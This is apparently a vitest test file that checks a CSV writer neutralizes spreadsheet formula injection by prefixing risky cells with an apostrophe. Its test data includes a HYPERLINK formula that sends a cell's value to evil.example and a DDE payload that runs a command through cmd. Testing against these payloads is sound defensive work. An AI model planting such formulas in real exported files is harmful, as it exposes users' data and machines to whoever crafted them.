import { describe, expect, it } from "vitest";
import { csvCell, writeCsv } from "./csv.js";

describe("the one CSV writer", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["+1", "'+1"],
    ["-2+3", "'-2+3"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["plain text", "plain text"],
    ["a=1", "a=1"],
    ["", ""],
  ])("neutralizes %j as text", (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it("writes numbers and booleans tempgrant computed as they are, negative ones included", () => {
    expect([csvCell(-300), csvCell(0), csvCell(true)]).toEqual(["-300", "0", "true"]);
    expect(writeCsv(["lag", "reason"], [[-300, "-300"]])).toBe("lag,reason\n-300,'-300\n");
  });
});
